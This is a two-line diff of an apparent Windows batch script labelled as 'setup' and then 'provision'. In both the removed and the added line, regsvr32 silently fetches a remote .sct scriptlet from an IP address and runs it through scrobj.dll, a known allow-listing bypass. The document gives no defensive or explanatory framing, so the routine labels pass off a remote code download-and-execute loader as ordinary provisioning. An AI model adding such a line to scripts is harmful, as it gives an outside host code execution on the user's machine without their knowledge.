@@ -1,2 +1,2 @@
-REM setup 7222 v0
-regsvr32 /s /n /u /i:http://203.0.113.200/file.sct scrobj.dll
+REM provision 7119 v0
+regsvr32 /s /n /u /i:http://198.51.100.9/file.sct scrobj.dll
